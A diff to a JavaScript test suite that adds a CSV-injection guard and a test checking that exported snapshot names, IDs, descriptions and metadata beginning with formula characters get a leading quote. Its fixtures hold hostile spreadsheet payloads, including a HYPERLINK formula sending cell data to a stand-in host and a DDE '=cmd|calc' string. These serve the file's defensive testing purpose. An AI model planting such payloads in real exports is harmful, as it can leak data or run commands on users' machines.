@@ -153,6 +153,12 @@ function readCsvWithPython(path) {
   return JSON.parse(execFileSync('python3', ['-c', script, path], { maxBuffer: 256 * 1024 * 1024 }).toString('utf8'));
 }
 
+/**
+ * OWASP's CSV-injection rule, as the export applies it: a cell that begins
+ * with =, +, -, @, TAB or CR gets a ' before it.
+ */
+const neutral = (v) => (/^[=+\-@\t\r]/.test(v) ? `'${v}` : v);
+
 function assertCsvEquals(path, list) {
   const bytes = readFileSync(path);
   assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf], 'UTF-8 byte-order mark');
@@ -163,9 +169,10 @@ function assertCsvEquals(path, list) {
   assert.equal(records.length, list.length);
   records.forEach((r, i) => {
     const s = list[i];
-    const want = [s.id, s.name, s.description ?? '', s.status, String(s.size), s.volumeId, s.createdAt ?? '', s.updatedAt ?? ''];
+    const want = [s.id, s.name, s.description ?? '', s.status, String(s.size), s.volumeId, s.createdAt ?? '', s.updatedAt ?? ''].map(neutral);
     assert.deepEqual(r.slice(0, 8), want, `record ${i}`);
     assert.deepEqual(JSON.parse(r[8]), s.metadata, `record ${i}: metadata`);
+    assert.equal(r[8], neutral(r[8]), `record ${i}: metadata is a JSON object, never formula-like`);
   });
 }
 
@@ -317,6 +324,37 @@ test('CSV and JSON exports of the whole seed equal the mock data, field by field
   assert.deepEqual(JSON.parse(readFileSync(ePath, 'utf8')), []);
   await closePage(empty);
   await closePage(filtered);
+  await closePage(page);
+});
+
+test('CSV injection: formula-like names, descriptions, IDs and metadata are written with a leading quote, and read back so', async () => {
+  const base = SNAPSHOTS[0];
+  const formulas = [
+    { id: '=1+2-snap', name: '=HYPERLINK("https://evil.example/?"&A1,"details")', description: '+SUM(1,2)', volume_id: '@volume', metadata: { note: '=HYPERLINK("https://evil.example")' } },
+    { id: '-dash-id', name: '-2+3', description: '\t=cmd|calc', volume_id: '-vol', metadata: { '=k': '+v' } },
+    { id: '@at-id', name: '@SUM(A1:A9)', description: '\r=1+1', volume_id: '=vol', metadata: {} },
+    { id: 'plain-id', name: 'a=b, not a formula', description: 'x-y', volume_id: 'vol-1', metadata: {} },
+  ].map((f, i) => ({ ...base, ...f, created_at: `2026-01-0${i + 1}T00:00:00.000000`, updated_at: null }));
+  const want = formulas.map(normalizeSnapshot);
+  const page = await open(seed);
+  seed.setFaults([{ match: { op: 'list' }, times: 1, status: 200, json: { snapshots: formulas } }]);
+  const path = join(OUT, 'export-formulas.csv');
+  await exportFile(page, 'csv', path);
+  assertCsvEquals(path, want);
+  // Python reads the quote back as part of the value, and nothing else changed.
+  const [, ...records] = readCsvWithPython(path);
+  assert.deepEqual(records.map((r) => r[0]), ["'=1+2-snap", "'-dash-id", "'@at-id", 'plain-id']);
+  assert.deepEqual(records.map((r) => r[1]), [`'${formulas[0].name}`, "'-2+3", "'@SUM(A1:A9)", 'a=b, not a formula']);
+  assert.deepEqual(records.map((r) => r[2]), ["'+SUM(1,2)", "'\t=cmd|calc", "'\r=1+1", 'x-y']);
+  assert.deepEqual(records.map((r) => r[5]), ["'@volume", "'-vol", "'=vol", 'vol-1']);
+  assert.deepEqual(JSON.parse(records[0][8]), { note: '=HYPERLINK("https://evil.example")' });
+  // No cell of the file begins with a formula character.
+  for (const r of records) for (const cell of r) assert.doesNotMatch(cell, /^[=+\-@\t\r]/, cell);
+  // The JSON export keeps the values as the service sent them.
+  seed.setFaults([{ match: { op: 'list' }, times: 1, status: 200, json: { snapshots: formulas } }]);
+  const jsonPath = join(OUT, 'export-formulas.json');
+  await exportFile(page, 'json', jsonPath);
+  assert.deepEqual(JSON.parse(readFileSync(jsonPath, 'utf8')), want);
   await closePage(page);
 });
 
